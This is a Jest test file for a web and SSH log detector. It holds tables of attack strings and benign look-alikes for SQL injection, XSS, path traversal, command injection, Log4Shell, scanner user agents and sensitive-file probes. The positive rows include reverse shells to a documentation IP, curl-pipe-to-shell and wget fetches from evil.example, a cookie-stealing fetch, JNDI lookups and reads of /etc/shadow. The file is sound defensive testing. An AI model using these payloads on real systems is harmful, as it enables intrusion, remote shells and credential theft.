import type { DetectableEvent } from '../../domain/event';
import {
  type AuthFields,
  decodeForInspection,
  detectSignals,
  hasCommandInjection,
  hasLog4Shell,
  hasPathTraversal,
  hasSqlInjection,
  hasXss,
  isAuthFailure,
  isAuthSuccess,
  isScannerUserAgent,
  isSensitiveFileProbe,
} from './detectors';
import { BEHAVIOUR_MARKERS, SIGNALS, type Signal } from '../../domain/signal';

interface Row<I, E> {
  name: string;
  input: I;
  expected: E;
}

// Every text detector gets positive rows (attacks, encoded and mixed-case variants) and negative
// rows (benign look-alikes). Add a case by adding a row.

const SQL_INJECTION: Row<string, boolean>[] = [
  { name: 'classic quoted tautology', input: "' OR '1'='1", expected: true },
  { name: 'url-encoded tautology', input: '/login?user=admin%27%20OR%20%271%27%3D%271', expected: true },
  { name: 'double-encoded tautology', input: '/item?id=1%2527%2520or%25201%253D1--', expected: true },
  { name: 'plus-encoded tautology', input: "/q?u='+or+'x'%3D'x", expected: true },
  { name: 'double-quoted numeric tautology', input: '" or 1=1--', expected: true },
  { name: 'unquoted or 1=1 with comment', input: '/item?id=5 or 1=1--', expected: true },
  { name: 'parenthesised tautology', input: "') or ('a'='a", expected: true },
  { name: 'empty-string tautology', input: "' or ''='", expected: true },
  { name: 'boolean blind and 1=2', input: "/item?id=1' and 1=2--", expected: true },
  { name: 'union all select nulls', input: '1 UNION ALL SELECT NULL,NULL,NULL--', expected: true },
  {
    name: 'mixed-case union select',
    input: '/p?id=1%20UnIoN%20SeLeCt%20username,password%20FROM%20users',
    expected: true,
  },
  { name: 'comment-split union select', input: '1 UNION/**/SELECT/**/1,2,3', expected: true },
  { name: 'mysql versioned comment', input: '1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', expected: true },
  { name: 'stacked drop table', input: '1; DROP TABLE users--', expected: true },
  { name: 'time-based sleep', input: "1' AND SLEEP(5)--", expected: true },
  { name: 'time-based waitfor delay', input: "1'; WAITFOR DELAY '0:0:5'--", expected: true },
  { name: 'time-based pg_sleep', input: '1 AND 1=(SELECT 1 FROM PG_SLEEP(5))', expected: true },
  { name: 'time-based benchmark', input: '1 and benchmark(5000000,md5(1))', expected: true },
  { name: 'information_schema', input: "' union select table_name from information_schema.tables--", expected: true },
  { name: 'quote then dash comment', input: "admin'--", expected: true },
  { name: 'quote then hash comment', input: "admin'#", expected: true },
  { name: 'quote then block comment', input: "admin'/*", expected: true },
  { name: 'xp_cmdshell', input: "'; exec master..xp_cmdshell 'dir'--", expected: true },
  { name: 'load_file', input: "' union select load_file('/etc/passwd')--", expected: true },
  { name: 'into outfile', input: "' union select 1 into outfile '/var/www/s.php'", expected: true },
  { name: 'concatenated subquery', input: "'||(SELECT 1)||'", expected: true },
  { name: 'order by column probe', input: "1' order by 5--", expected: true },
  { name: 'pricing search', input: '/pricing?q=select+a+plan', expected: false },
  { name: 'union station slug', input: '/stations/union-station', expected: false },
  { name: 'union-select product slug', input: '/products/union-select-series', expected: false },
  { name: 'apostrophe in a name', input: "/books?author=O'Reilly books", expected: false },
  { name: 'drop table tennis', input: 'drop table tennis', expected: false },
  { name: '1=1 without quote or or', input: '1=1 tutorial', expected: false },
  { name: 'sleep well', input: 'sleep well', expected: false },
  { name: 'order by price', input: '/shop?sort=order by price', expected: false },
  { name: 'key=value log line with quotes', input: "user 'bob' and role=admin", expected: false },
  { name: 'possessives', input: "Tom's diner and Jerry's bar", expected: false },
  { name: 'dash aside after a quote', input: "he said 'hi' -- then left", expected: false },
  { name: 'quoted css colour', input: "color='#fff'", expected: false },
];

const XSS: Row<string, boolean>[] = [
  { name: 'script tag', input: '<script>alert(1)</script>', expected: true },
  { name: 'url-encoded script', input: '%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', expected: true },
  { name: 'double-encoded script', input: '%253Cscript%253Ealert(1)%253C%252Fscript%253E', expected: true },
  { name: 'html-entity script', input: '&lt;script&gt;alert(1)&lt;/script&gt;', expected: true },
  { name: 'mixed-case script src', input: '<ScRiPt src=//evil.example/x.js>', expected: true },
  { name: 'img onerror', input: '<img src=x onerror=alert(1)>', expected: true },
  { name: 'svg slash onload', input: '<svg/onload=alert(1)>', expected: true },
  { name: 'iframe', input: '<iframe src="https://evil.example">', expected: true },
  { name: 'javascript uri', input: 'javascript:alert(document.domain)', expected: true },
  { name: 'mixed-case javascript uri', input: 'JaVaScRiPt:prompt(1)', expected: true },
  { name: 'code after javascript:void(0)', input: 'javascript:void(0);alert(1)', expected: true },
  { name: 'tab-split javascript uri', input: 'java&#x09;script:alert(1)', expected: true },
  { name: 'attribute breakout', input: '"><img src=x onerror=confirm(1)>', expected: true },
  { name: 'quote then handler', input: '" autofocus onfocus=alert(1) x="', expected: true },
  { name: 'handler without a call', input: "<img src=x onerror=location='//evil.example'>", expected: true },
  { name: 'attribute breakout without a call', input: "' onmouseover='location.href=1", expected: true },
  { name: 'details ontoggle', input: '<details open ontoggle=prompt(1)>', expected: true },
  { name: 'js string breakout', input: "';alert(String.fromCharCode(88,83,83))//", expected: true },
  { name: 'cookie theft', input: "fetch('//x.example?c='+document.cookie)", expected: true },
  { name: 'eval', input: "eval(atob('YWxlcnQoMSk='))", expected: true },
  { name: 'data uri html', input: '<a href="data:text/html;base64,PHNjcmlwdD4=">', expected: true },
  { name: 'javascript tutorial', input: '/courses/javascript tutorial', expected: false },
  { name: 'prose about onload', input: 'description of onload events', expected: false },
  { name: 'comparisons', input: 'a < b and c > d', expected: false },
  { name: 'crawler following javascript:void(0)', input: '/javascript:void(0)', expected: false },
  { name: 'java generics', input: 'List<Object> is empty', expected: false },
  { name: 'plain markup', input: '<b>bold</b> text', expected: false },
  { name: 'book title with a colon', input: 'JavaScript: the good parts', expected: false },
  { name: 'handler prose with equals', input: 'set onload= in the config', expected: false },
  { name: 'confirm in prose', input: 'please confirm (yes/no)', expected: false },
  { name: 'eval in a stack trace', input: 'at eval (webpack:///./src/app.js:10:5)', expected: false },
  { name: 'evaluation call', input: 'evaluation(1) finished', expected: false },
];

const PATH_TRAVERSAL: Row<string, boolean>[] = [
  { name: 'dot-dot-slash to passwd', input: '/download?f=../../../../etc/passwd', expected: true },
  { name: 'backslash to win.ini', input: '..\\..\\windows\\win.ini', expected: true },
  { name: 'fully encoded', input: '%2e%2e%2f%2e%2e%2fetc%2fpasswd', expected: true },
  { name: 'encoded slash only', input: '/x/..%2f..%2fconfig', expected: true },
  { name: 'encoded dots only', input: '/x/%2e%2e/%2e%2e/secret', expected: true },
  { name: 'mixed-case encoded backslash', input: '%2E%2E%5C%2E%2E%5Csecret.txt', expected: true },
  { name: 'double-encoded', input: '/x/%252e%252e%252fsecret', expected: true },
  { name: 'overlong utf-8 dots', input: '/x/%c0%ae%c0%ae/%c0%ae%c0%ae/secret', expected: true },
  { name: 'overlong utf-8 slash', input: '/x/..%c0%af..%c0%afsecret', expected: true },
  { name: 'filter-evasion dots', input: '/static/....//....//secret', expected: true },
  { name: 'filter-evasion backslash dots', input: '....\\....\\secret.txt', expected: true },
  { name: 'tomcat semicolon bypass', input: '/app/..;/manager/html', expected: true },
  { name: 'absolute /etc/shadow', input: '/download?file=/etc/shadow', expected: true },
  { name: 'absolute windows path', input: '?page=C:\\Windows\\win.ini', expected: true },
  { name: 'boot.ini', input: '?page=BOOT.INI', expected: true },
  { name: 'proc self environ', input: '?page=/proc/self/environ', expected: true },
  { name: 'dots inside a word', input: 'a..b', expected: false },
  { name: 'version range', input: 'version 1.2..3', expected: false },
  { name: 'password policy doc', input: '/docs/etc/password-policy', expected: false },
  { name: 'ellipsis before escaped newline', input: 'Loading...\\nnext step', expected: false },
  { name: 'ruby range', input: 'range 1..10', expected: false },
  { name: 'double dot in a file name', input: '/files/report..final.pdf', expected: false },
  { name: 'single-dot relative path', input: 'see ./relative/path', expected: false },
];

const COMMAND_INJECTION: Row<string, boolean>[] = [
  { name: 'semicolon cat', input: ';cat /etc/passwd', expected: true },
  { name: 'semicolon id', input: '127.0.0.1; id', expected: true },
  { name: 'and-and whoami', input: '127.0.0.1 && whoami', expected: true },
  { name: 'pipe netcat', input: '| nc 203.0.113.9 4444 -e /bin/sh', expected: true },
  { name: 'backticks', input: 'name=`id`', expected: true },
  { name: 'command substitution', input: '$(curl http://evil.example/x.sh|sh)', expected: true },
  { name: 'url-encoded wget', input: '%3Bwget%20http%3A%2F%2Fevil.example%2Fx', expected: true },
  { name: 'double-encoded uname', input: '%253Buname%2520-a', expected: true },
  { name: 'IFS instead of spaces', input: ';cat${IFS}/etc/passwd', expected: true },
  { name: 'or-or ping', input: '|| ping -c 10 127.0.0.1', expected: true },
  { name: 'mixed-case powershell', input: '& PowerShell -enc SQBFAFgA', expected: true },
  { name: 'rm -rf', input: '; rm -rf /tmp/x', expected: true },
  { name: 'reverse shell', input: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', expected: true },
  { name: 'shellshock', input: "() { :; }; /bin/bash -c 'id'", expected: true },
  { name: 'encoded newline', input: '/ping?host=x%0Aid', expected: true },
  { name: 'absolute binary path', input: '; /bin/cat /etc/shadow', expected: true },
  { name: 'cats and dogs', input: 'cats & dogs', expected: false },
  { name: 'R&D', input: 'R&D department', expected: false },
  { name: 'rock paper scissors', input: 'rock|paper|scissors', expected: false },
  { name: 'shell scripting course', input: 'shell scripting course', expected: false },
  { name: 'semicolon then prose cat', input: 'see below; cat owners should read this', expected: false },
  { name: 'query flag named env', input: '/search?debug&env', expected: false },
  { name: 'query param named id', input: '/item?x=1&id=5', expected: false },
  { name: 'ping pong', input: 'Tom & Jerry; ping pong club', expected: false },
  { name: 'jquery ready', input: '$(document).ready(init)', expected: false },
  { name: 'echo chamber', input: 'stand-up; echo chamber effect', expected: false },
  { name: 'curl user agent', input: 'curl/7.68.0', expected: false },
];

const LOG4SHELL: Row<string, boolean>[] = [
  { name: 'plain ldap lookup', input: '${jndi:ldap://203.0.113.9:1389/a}', expected: true },
  { name: 'upper case', input: '${JNDI:LDAP://x.example/a}', expected: true },
  { name: 'lower lookup', input: '${${lower:j}ndi:ldap://x.example/a}', expected: true },
  { name: 'default-value lookups', input: '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}', expected: true },
  { name: 'env defaults', input: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}', expected: true },
  { name: 'url-encoded', input: '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D', expected: true },
  { name: 'double-encoded', input: '%2524%257Bjndi:dns://x.example%257D', expected: true },
  { name: 'dotless i through upper', input: '${jnd${upper:ı}:ldap://x.example/a}', expected: true },
  { name: 'nested lookups', input: '${${lower:${upper:j}}ndi:ldap://x.example}', expected: true },
  { name: 'k8s default', input: '${j${k8s:k5:-ND}i:ldap://x.example}', expected: true },
  { name: 'date lookup', input: "${${date:'j'}ndi:ldap://x.example}", expected: true },
  { name: 'inside a user agent', input: 'Mozilla/5.0 ${jndi:ldap://x.example/Basic/Command}', expected: true },
  { name: 'jndi in prose', input: 'JNDI lookup disabled by default', expected: false },
  { name: 'env lookup', input: '${env:HOME}/.config', expected: false },
  { name: 'template placeholder', input: '${user.name} logged in', expected: false },
  { name: 'price template', input: 'price: ${amount}', expected: false },
  { name: 'jndi without a lookup', input: 'a ${lower:jn}di token', expected: false },
  { name: 'default of something else', input: '${::-x}', expected: false },
];

const SCANNER: Row<string, boolean>[] = [
  { name: 'sqlmap', input: 'sqlmap/1.7.2#stable (https://sqlmap.org)', expected: true },
  { name: 'nikto', input: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', expected: true },
  {
    name: 'nmap nse',
    input: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    expected: true,
  },
  { name: 'plus-encoded nmap', input: 'Mozilla/5.0+(compatible;+Nmap+Scripting+Engine)', expected: true },
  { name: 'masscan', input: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', expected: true },
  { name: 'zgrab', input: 'Mozilla/5.0 zgrab/0.x', expected: true },
  { name: 'nuclei', input: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', expected: true },
  { name: 'gobuster', input: 'gobuster/3.6', expected: true },
  { name: 'wpscan', input: 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', expected: true },
  { name: 'ffuf', input: 'Fuzz Faster U Fool v2.1.0', expected: true },
  { name: 'feroxbuster', input: 'feroxbuster/2.10.0', expected: true },
  {
    name: 'dirbuster',
    input: 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    expected: true,
  },
  { name: 'upper-case sqlmap', input: 'SQLMAP', expected: true },
  {
    name: 'chrome',
    input:
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    expected: false,
  },
  { name: 'firefox', input: 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', expected: false },
  {
    name: 'safari',
    input:
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
    expected: false,
  },
  {
    name: 'googlebot',
    input: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    expected: false,
  },
  { name: 'curl', input: 'curl/8.4.0', expected: false },
  { name: 'wget', input: 'Wget/1.21.4', expected: false },
  { name: 'python-requests', input: 'python-requests/2.31.0', expected: false },
  { name: 'python-httpx library', input: 'python-httpx/0.27.0', expected: false },
];

const SENSITIVE_FILE_PROBE: Row<string, boolean>[] = [
  { name: 'dotenv', input: '/.env', expected: true },
  { name: 'nested dotenv variant', input: '/app/.env.local', expected: true },
  { name: 'production dotenv with query', input: '/.env.production?x=1', expected: true },
  { name: 'upper-case dotenv', input: '/.ENV', expected: true },
  { name: 'git config', input: '/.git/config', expected: true },
  { name: 'git HEAD', input: '/.git/HEAD', expected: true },
  { name: 'encoded git in a full url', input: 'https://victim.example/%2egit/config', expected: true },
  { name: 'double-encoded dotenv', input: '/%252eenv', expected: true },
  { name: 'svn entries', input: '/.svn/entries', expected: true },
  { name: 'mercurial', input: '/.hg/', expected: true },
  { name: 'wp-config backup', input: '/wp-config.php.bak', expected: true },
  { name: 'wp-config editor copy', input: '/wp-config.php~', expected: true },
  { name: 'aws credentials', input: '/.aws/credentials', expected: true },
  { name: 'ssh key', input: '/home/.ssh/id_rsa', expected: true },
  { name: 'htpasswd', input: '/.htpasswd', expected: true },
  { name: 'server-status', input: '/server-status', expected: true },
  { name: 'phpinfo', input: '/phpinfo.php', expected: true },
  { name: 'DS_Store', input: '/.DS_Store', expected: true },
  { name: 'sql dump', input: '/backup.sql', expected: true },
  { name: 'npmrc', input: '/.npmrc', expected: true },
  { name: 'docker config', input: '/.docker/config.json', expected: true },
  { name: 'spring actuator env', input: '/actuator/env', expected: true },
  { name: 'encoded passwd', input: '/..%2f..%2fetc%2fpasswd', expected: true },
  { name: 'environment page', input: '/environment', expected: false },
  { name: 'security.txt', input: '/.well-known/security.txt', expected: false },
  { name: 'git guide', input: '/docs/git-guide', expected: false },
  { name: 'envelope', input: '/envelope', expected: false },
  { name: 'wp-admin', input: '/wp-admin/', expected: false },
  { name: 'config.json', input: '/config.json', expected: false },
  { name: 'dotenv only in the query', input: '/search?q=/.env', expected: false },
  { name: 'blog slug', input: '/blog/.environment-tips', expected: false },
  { name: 'git api route', input: '/api/git/commits', expected: false },
];

const TEXT_DETECTORS: ReadonlyArray<readonly [(text: string) => boolean, Row<string, boolean>[]]> = [
  [hasSqlInjection, SQL_INJECTION],
  [hasXss, XSS],
  [hasPathTraversal, PATH_TRAVERSAL],
  [hasCommandInjection, COMMAND_INJECTION],
  [hasLog4Shell, LOG4SHELL],
  [isScannerUserAgent, SCANNER],
  [isSensitiveFileProbe, SENSITIVE_FILE_PROBE],
];

for (const [detector, rows] of TEXT_DETECTORS) {
  describe(detector.name, () => {
    it.each(rows)('$name', ({ input, expected }) => {
      expect(detector(input)).toBe(expected);
    });
  });
}

const sshd = (line: string): DetectableEvent => ({ outcome: 'unknown', message: line });

const AUTH_FAILURE: Row<AuthFields, boolean>[] = [
  { name: 'failed password', input: sshd('Failed password for root from 203.0.113.5 port 22 ssh2'), expected: true },
  {
    name: 'failed password, invalid user',
    input: sshd('Failed password for invalid user admin from 203.0.113.5 port 22 ssh2'),
    expected: true,
  },
  { name: 'invalid user', input: sshd('Invalid user oracle from 198.51.100.7 port 40112'), expected: true },
  {
    name: 'pam failure',
    input: sshd('pam_unix(sshd:auth): authentication failure; logname= uid=0 rhost=203.0.113.5  user=root'),
    expected: true,
  },
  {
    name: 'max attempts',
    input: sshd('error: maximum authentication attempts exceeded for root from 203.0.113.5 port 4 ssh2 [preauth]'),
    expected: true,
  },
  {
    name: 'too many failures',
    input: sshd('Disconnecting: Too many authentication failures [preauth]'),
    expected: true,
  },
  {
    name: 'closed by authenticating user',
    input: sshd('Connection closed by authenticating user root 203.0.113.5 port 22 [preauth]'),
    expected: true,
  },
  {
    name: 'closed by invalid user',
    input: sshd('Connection closed by invalid user test 203.0.113.5 port 22 [preauth]'),
    expected: true,
  },
  {
    name: 'disconnected authenticating user',
    input: sshd('Disconnected from authenticating user root 203.0.113.5 port 22 [preauth]'),
    expected: true,
  },
  {
    name: 'disconnect with auth reason',
    input: sshd('Received disconnect from 203.0.113.5 port 5:3: com.jcraft.jsch.JSchException: Auth fail [preauth]'),
    expected: true,
  },
  {
    name: 'failed publickey',
    input: sshd('Failed publickey for git from 203.0.113.5 port 22 ssh2: RSA SHA256:abc'),
    expected: true,
  },
  { name: 'event type ssh_login_failed', input: { eventType: 'ssh_login_failed', outcome: 'unknown' }, expected: true },
  {
    name: 'event type AUTHENTICATION_FAILURE',
    input: { eventType: 'AUTHENTICATION_FAILURE', outcome: 'unknown' },
    expected: true,
  },
  { name: 'event type Login_Failed', input: { eventType: 'Login_Failed', outcome: 'unknown' }, expected: true },
  { name: 'event type auth_failure', input: { eventType: 'auth_failure', outcome: 'unknown' }, expected: true },
  { name: 'login with failure outcome', input: { eventType: 'web_login', outcome: 'failure' }, expected: true },
  { name: 'ssh with failure outcome', input: { eventType: 'ssh', outcome: 'failure' }, expected: true },
  {
    name: 'no identification string is a probe',
    input: sshd('Did not receive identification string from 203.0.113.5 port 5'),
    expected: false,
  },
  {
    name: 'plain disconnect',
    input: sshd('Received disconnect from 203.0.113.5 port 22:11: Bye Bye [preauth]'),
    expected: false,
  },
  {
    name: 'closed before any user',
    input: sshd('Connection closed by 203.0.113.5 port 22 [preauth]'),
    expected: false,
  },
  {
    name: 'accepted password',
    input: sshd('Accepted password for deploy from 10.0.0.5 port 51234 ssh2'),
    expected: false,
  },
  {
    name: 'failed request that is not a login',
    input: { eventType: 'http_request', outcome: 'failure' },
    expected: false,
  },
  {
    name: 'authorization is not authentication',
    input: { eventType: 'authorization_denied', outcome: 'failure' },
    expected: false,
  },
  { name: 'payment failure', input: { eventType: 'payment_failed', outcome: 'failure' }, expected: false },
  { name: 'invalid user input', input: sshd('validation: invalid user input in form'), expected: false },
];

const AUTH_SUCCESS: Row<AuthFields, boolean>[] = [
  {
    name: 'accepted password',
    input: sshd('Accepted password for deploy from 10.0.0.5 port 51234 ssh2'),
    expected: true,
  },
  {
    name: 'accepted publickey',
    input: sshd('Accepted publickey for git from 10.0.0.5 port 51234 ssh2: ED25519 SHA256:abc'),
    expected: true,
  },
  {
    name: 'accepted keyboard-interactive',
    input: sshd('Accepted keyboard-interactive/pam for alice from 10.0.0.5 port 2 ssh2'),
    expected: true,
  },
  {
    name: 'event type ssh_login_success',
    input: { eventType: 'ssh_login_success', outcome: 'unknown' },
    expected: true,
  },
  { name: 'event type LOGIN_SUCCESS', input: { eventType: 'LOGIN_SUCCESS', outcome: 'unknown' }, expected: true },
  { name: 'login with success outcome', input: { eventType: 'login', outcome: 'success' }, expected: true },
  {
    name: 'authentication with success outcome',
    input: { eventType: 'authentication', outcome: 'success' },
    expected: true,
  },
  { name: 'sign-in succeeded', input: { eventType: 'sign_in_succeeded', outcome: 'unknown' }, expected: true },
  { name: 'windows logon', input: sshd('An account was successfully logged on.'), expected: true },
  { name: 'failed password', input: sshd('Failed password for root from 203.0.113.5 port 22 ssh2'), expected: false },
  {
    name: 'failure wins over a success type',
    input: {
      eventType: 'login_success',
      outcome: 'unknown',
      message: 'Failed password for root from 203.0.113.5 port 22 ssh2',
    },
    expected: false,
  },
  {
    name: 'failure type wins over success outcome',
    input: { eventType: 'ssh_login_failed', outcome: 'success' },
    expected: false,
  },
  { name: 'request success', input: { eventType: 'http_request', outcome: 'success' }, expected: false },
  { name: 'logout success', input: { eventType: 'logout', outcome: 'success' }, expected: false },
  {
    name: 'cron session',
    input: sshd('pam_unix(cron:session): session opened for user root by (uid=0)'),
    expected: false,
  },
  { name: 'authorization granted', input: { eventType: 'authorization_granted', outcome: 'success' }, expected: false },
  { name: 'password change', input: { eventType: 'password_change', outcome: 'success' }, expected: false },
];

describe(isAuthFailure.name, () => {
  it.each(AUTH_FAILURE)('$name', ({ input, expected }) => {
    expect(isAuthFailure(input)).toBe(expected);
  });
});

describe(isAuthSuccess.name, () => {
  it.each(AUTH_SUCCESS)('$name', ({ input, expected }) => {
    expect(isAuthSuccess(input)).toBe(expected);
  });
});

const DECODE: Row<string, string>[] = [
  { name: 'lower-cases', input: 'SeLeCt', expected: 'select' },
  { name: 'plus is a space', input: 'a+b', expected: 'a b' },
  { name: 'one round', input: '%27%20OR', expected: "' or" },
  { name: 'double encoding', input: '%252e%252e%252f', expected: '../' },
  { name: 'triple encoding', input: '%25252e', expected: '.' },
  { name: 'stops after three rounds', input: '%2525252e', expected: '%2e' },
  { name: 'utf-8 sequence', input: 'caf%C3%A9', expected: 'café' },
  { name: 'overlong utf-8', input: '%c0%ae%c0%ae%c0%af', expected: '../' },
  { name: '%u escape', input: '%u003Cscript', expected: '<script' },
  { name: 'truncated sequence', input: '%E0%A4%A', expected: '\u00e0\u00a4%a' },
  { name: 'stray percent signs', input: '100% %zz %', expected: '100% %zz %' },
  { name: 'named entities', input: '&lt;b&gt;&quot;&apos;&amp;', expected: `<b>"'&` },
  { name: 'numeric entities', input: '&#x3C;&#60;&#0000060', expected: '<<<' },
  { name: 'url then html', input: '%26lt%3Bscript%26gt%3B', expected: '<script>' },
  { name: 'sql comment', input: 'UNION/**/SELECT', expected: 'union select' },
  { name: 'mysql executable comment keeps its body', input: '/*!50000UNION*/', expected: ' union ' },
  { name: 'unterminated comment', input: '/* open', expected: '/* open' },
  { name: 'nul bytes dropped', input: 'a%00b', expected: 'ab' },
];

describe(decodeForInspection.name, () => {
  it.each(DECODE)('$name', ({ input, expected }) => {
    expect(decodeForInspection(input)).toBe(expected);
  });

  it('inspects at most 8 KiB of a field', () => {
    expect(decodeForInspection('A'.repeat(1_000_000))).toHaveLength(8 * 1024);
    expect(hasXss('a'.repeat(9000) + '<script>alert(1)</script>')).toBe(false);
  });
});

const ua = {
  chrome:
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  sqlmap: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
  nuclei: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
};
const web = (url: string, userAgent = ua.chrome): DetectableEvent => ({
  outcome: 'unknown',
  eventType: 'http_request',
  url,
  userAgent,
});

const EVENTS: Row<DetectableEvent, Signal[]>[] = [
  { name: 'benign page view', input: web('/api/v1/products?category=shoes&page=2&sort=price'), expected: [] },
  { name: 'empty event', input: { outcome: 'unknown' }, expected: [] },
  {
    name: 'sshd failure',
    input: sshd('Failed password for invalid user admin from 203.0.113.5 port 22 ssh2'),
    expected: ['auth_failure'],
  },
  {
    name: 'sshd success',
    input: sshd('Accepted publickey for deploy from 10.0.0.5 port 2 ssh2'),
    expected: ['auth_success'],
  },
  { name: 'sshd probe', input: sshd('Did not receive identification string from 203.0.113.5 port 5'), expected: [] },
  {
    name: 'failed login by type and outcome',
    input: { eventType: 'login', outcome: 'failure', user: 'alice' },
    expected: ['auth_failure'],
  },
  {
    name: 'failure wins over success',
    input: {
      eventType: 'login_success',
      outcome: 'unknown',
      message: 'Failed password for root from 203.0.113.5 port 22 ssh2',
    },
    expected: ['auth_failure'],
  },
  {
    name: 'sqlmap union',
    input: web('/item?id=1%20UNION%20SELECT%20NULL,NULL--', ua.sqlmap),
    expected: ['sql_injection', 'scanner'],
  },
  { name: 'reflected xss', input: web('/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), expected: ['xss'] },
  {
    name: 'traversal in the query',
    input: web('/download?file=../../../../etc/passwd'),
    expected: ['path_traversal', 'lfi'],
  },
  {
    name: 'traversal in the path',
    input: web('/static/..%2f..%2fetc/passwd'),
    expected: ['path_traversal', 'sensitive_file_probe', 'lfi'],
  },
  { name: 'dotenv probe by nuclei', input: web('/.env', ua.nuclei), expected: ['scanner', 'sensitive_file_probe'] },
  {
    name: 'command injection',
    input: web('/cgi-bin/ping?host=127.0.0.1%3Bcat%20/etc/passwd'),
    expected: ['path_traversal', 'command_injection', 'lfi'],
  },
  { name: 'log4shell in the user agent', input: web('/', '${jndi:ldap://203.0.113.9/a}'), expected: ['log4shell'] },
  {
    name: 'log4shell in the user',
    input: { outcome: 'failure', eventType: 'http_auth', user: '${${lower:j}ndi:ldap://x/a}' },
    expected: ['auth_failure', 'log4shell'],
  },
  {
    name: 'shellshock in the user agent',
    input: web('/cgi-bin/status', "() { :; }; /bin/bash -c 'id'"),
    expected: ['command_injection', 'code_injection', 'exploit_probe'],
  },
  {
    name: 'waf message',
    input: { outcome: 'unknown', message: "blocked request: GET /item?id=1' OR '1'='1" },
    expected: ['sql_injection'],
  },
];

describe(detectSignals.name, () => {
  // Behaviour markers (dynamic_request, http_not_found…) are counted by the policy and tested
  // with the web rules; these rows are about evidence.
  it.each(EVENTS)('$name', ({ input, expected }) => {
    expect(detectSignals(input).filter((signal) => !BEHAVIOUR_MARKERS.has(signal))).toEqual(expected);
  });

  it('returns distinct signals in SIGNALS order', () => {
    const noisy = web("/..%2f.env?q=' or '1'='1&x=<script>;id ${jndi:x}", ua.sqlmap);
    for (const signals of [...EVENTS.map((row) => detectSignals(row.input)), detectSignals(noisy)]) {
      expect(new Set(signals).size).toBe(signals.length);
      expect(signals).toEqual(SIGNALS.filter((signal) => signals.includes(signal)));
    }
  });

  it('completes on a 1 MiB hostile field', () => {
    let seed = 42;
    const alphabet = '%$\'"<>{}()/.\\;|&:-=# abcjndiorunselect0123456789+';
    const chars = Array.from({ length: 1 << 20 }, () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return alphabet[seed % alphabet.length];
    });
    const huge = chars.join('');
    const event: DetectableEvent = {
      outcome: 'failure',
      eventType: huge,
      url: huge,
      message: huge,
      userAgent: huge,
      user: huge,
    };
    expect(Array.isArray(detectSignals(event))).toBe(true);
  });

  it.each(['%E0%A4%A', '%', '%%%', '%u12', '%ZZ', '%c0', '&#99999999;', '${${${'])('does not throw on %s', (input) => {
    const event: DetectableEvent = { outcome: 'unknown', url: input, message: input, userAgent: input, user: input };
    expect(() => detectSignals(event)).not.toThrow();
    for (const [detector] of TEXT_DETECTORS) {
      expect(() => detector(input)).not.toThrow();
    }
  });
});

describe('detector tables', () => {
  const tables: { table: string; rows: Row<unknown, boolean>[] }[] = [
    ...TEXT_DETECTORS.map(([detector, rows]) => ({ table: detector.name, rows })),
    { table: isAuthFailure.name, rows: AUTH_FAILURE },
    { table: isAuthSuccess.name, rows: AUTH_SUCCESS },
  ];
  it.each(tables)('$table has enough positive and negative rows, uniquely named', ({ rows }) => {
    expect(rows.filter((row) => row.expected).length).toBeGreaterThanOrEqual(8);
    expect(rows.filter((row) => !row.expected).length).toBeGreaterThanOrEqual(6);
    expect(new Set(rows.map((row) => row.name)).size).toBe(rows.length);
  });
});
